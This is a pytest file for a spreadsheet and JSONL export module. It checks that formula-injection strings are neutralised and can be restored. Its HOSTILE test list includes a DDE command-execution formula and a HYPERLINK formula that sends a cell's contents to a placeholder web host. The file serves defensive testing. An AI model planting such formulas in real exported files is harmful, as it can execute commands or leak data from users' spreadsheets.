"""Taking tables away: text opens as text in a spreadsheet, and comes back as it was."""

from __future__ import annotations

import csv
import io
import json

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from llmops_kit.errors import InvalidValue
from llmops_kit.playground.export import neutralise, restore, save_table, to_csv, to_jsonl, to_xlsx
from llmops_kit.playground.rows import read_rows

HOSTILE = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\N{MINUS SIGN}1",
    "  =1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "'=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1,"x")',
    '=1+1";=2+2',
]
HARMLESS = ["", "'", "'quoted'", "こんにちは", "1-1", "a=b", "「=」", "ー長音", "（-1）", "https://example.org", "３＋４"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_opens_as_text_in_csv_and_xlsx(text):
    frame = pd.DataFrame({"output": [text]})
    [_, [cell]] = csv.reader(io.StringIO(to_csv(frame).decode("utf-8-sig"), newline=""))
    assert cell == "'" + text
    made = openpyxl.load_workbook(io.BytesIO(to_xlsx(frame))).active["A2"]
    assert made.data_type == "s"
    assert made.value.startswith("'")


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_alone(text):
    assert neutralise(text) == text == restore(text)


@settings(max_examples=1000, deadline=None)
@given(st.text() | st.text("'=+-@\t\r\n ＝a", max_size=6))
def test_neutralising_can_be_undone_for_every_text(text):
    safe = neutralise(text)
    assert restore(safe) == text
    assert safe[:1] not in tuple("=+-@\t\r\n＝＋－＠")


@settings(max_examples=150, deadline=None)
@given(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), min_size=1), min_size=1, max_size=4))
def test_values_come_back_through_our_own_files(texts):
    frame = pd.DataFrame({"output": [f"x{text}" for text in texts] + [f"={text}" for text in texts]})
    for write, name in ((to_csv, "a.csv"), (to_xlsx, "a.xlsx"), (to_jsonl, "a.jsonl")):
        table = read_rows(write(frame), file=name)
        values = [row["output"] for row in table.rows]
        assert [value if name == "a.jsonl" else restore(value) for value in values] == frame["output"].tolist(), name


def test_headers_are_cells_too():
    frame = pd.DataFrame({"=1+1": ["a"]})
    assert b'"\'=1+1"' in to_csv(frame)
    assert openpyxl.load_workbook(io.BytesIO(to_xlsx(frame))).active["A1"].value == "'=1+1"


def test_csv_is_for_excel_in_japan_and_jsonl_for_programs():
    frame = pd.DataFrame({"出力": ["有給休暇", None], "n": [1, None], "s": [0.5, np.nan], "ok": [True, None]})
    frame = frame.astype({"n": "Int64", "ok": "boolean"})
    assert to_csv(frame) == '\ufeff"出力","n","s","ok"\r\n"有給休暇","1","0.5","True"\r\n"","","",""\r\n'.encode()
    lines = to_jsonl(frame)
    assert not lines.startswith(b"\xef\xbb\xbf")
    assert "有給休暇" in lines.decode()
    assert [json.loads(line) for line in lines.decode().splitlines()] == [
        {"出力": "有給休暇", "n": 1, "s": 0.5, "ok": True},
        {"出力": None, "n": None, "s": None, "ok": None},
    ]


def test_numbers_stay_numbers():
    frame = pd.DataFrame({"n": [-5], "x": [-0.25], "t": ["-5"]})
    assert to_csv(frame).decode("utf-8-sig").splitlines()[1] == "\"-5\",\"-0.25\",\"'-5\""
    assert [cell.value for cell in openpyxl.load_workbook(io.BytesIO(to_xlsx(frame))).active[2]] == [-5, -0.25, "'-5"]


def test_what_xml_cannot_hold_is_escaped_not_lost():
    text = "a\x08b\r\nc_x0041_d"
    [row] = read_rows(to_xlsx(pd.DataFrame({"t": [text]})), file="a.xlsx").rows
    assert row["t"] == text


def test_long_text_is_cut_visibly_in_xlsx_only():
    text = "𠮷" * 40_000
    frame = pd.DataFrame({"t": [text]})
    value = openpyxl.load_workbook(io.BytesIO(to_xlsx(frame))).active["A2"].value
    assert len(value.encode("utf-16-le")) // 2 <= 32_767
    assert value.endswith("… [cut / 省略：40,000; CSV, JSONL]")
    assert text in to_csv(frame).decode()
    assert text in to_jsonl(frame).decode()


def test_lone_surrogates_do_not_stop_an_export():
    frame = pd.DataFrame({"t": ["a\ud800b"]})
    for write in (to_csv, to_xlsx, to_jsonl):
        assert write(frame)


def test_save_table_goes_by_the_suffix(tmp_path):
    frame = pd.DataFrame({"t": ["あ"]})
    for name in ("a.csv", "a.XLSX", "a.jsonl"):
        path = save_table(frame, tmp_path / name)
        assert [row["t"] for row in read_rows(path).rows] == ["あ"]
    assert sorted(path.name for path in tmp_path.iterdir()) == ["a.XLSX", "a.csv", "a.jsonl"]
    with pytest.raises(InvalidValue, match="pdf"):
        save_table(frame, tmp_path / "a.pdf")
